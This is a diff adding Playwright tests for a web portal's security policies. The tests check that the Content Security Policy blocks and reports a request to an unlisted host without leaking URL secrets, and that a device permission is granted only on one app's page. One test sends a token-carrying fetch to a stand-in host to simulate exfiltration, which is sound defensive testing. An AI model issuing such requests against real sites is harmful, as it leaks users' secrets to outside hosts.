@@ -1,0 +1,51 @@
+import { readFile } from 'node:fs/promises';
+import { expect, test } from '../fixtures';
+import { stackLog } from '../fixtures/addresses';
+import { PortalPage } from '../pages/portal-page';
+
+/** What the portal server logged of policy violations since the stack started. */
+async function violations(): Promise<readonly string[]> {
+  return (await readFile(stackLog, 'utf8')).split('\n').filter((line) => line.includes('"policy-violation"'));
+}
+
+test('what the policy blocks is reported to the portal server, without what addresses carry', async ({
+  asUser,
+  pageFaults,
+}) => {
+  pageFaults.allow(/security policy violation/, /Content Security Policy/);
+  const page = await asUser('morgan.staff', { path: '/rfr?ccmm=0101' });
+  const portal = new PortalPage(page);
+  await expect(portal.main.getByRole('rowheader').first()).toBeVisible();
+  await page.evaluate(() =>
+    fetch('https://unlisted.example.test/take?token=secret#x').catch(() => undefined),
+  );
+  await expect
+    .poll(violations, { message: 'the server has logged it' })
+    .toContainEqual(expect.stringContaining('"blocked":"https://unlisted.example.test"'));
+  const told = (await violations()).find((line) => line.includes('unlisted.example.test')) ?? '';
+  expect(told).toContain('"directive":"connect-src"');
+  expect(told).toContain('"route":"/rfr"');
+  expect(told).not.toMatch(/secret|ccmm/);
+});
+
+test('an app may ask for a device on its own page only, where the manifest says so', async ({
+  asUser,
+  stack,
+}) => {
+  await stack.editManifest((manifest) => {
+    for (const app of manifest.apps) if (app['name'] === 'sla') app['needs'] = ['geolocation'];
+  });
+  const page = await asUser('avery.admin', { path: '/sla' });
+  const allowed = () =>
+    page.evaluate(() => {
+      const policy: unknown = Reflect.get(document, 'featurePolicy');
+      const allows: unknown = Reflect.get(Object(policy), 'allowsFeature');
+      return ['geolocation', 'camera', 'microphone'].filter(
+        (name) => allows instanceof Function && Reflect.apply(allows, policy, [name]) === true,
+      );
+    });
+  await expect(new PortalPage(page).main.getByRole('heading').first()).toBeVisible();
+  expect(await allowed()).toEqual(['geolocation']);
+  await page.goto('/rfr');
+  expect(await allowed()).toEqual([]);
+});
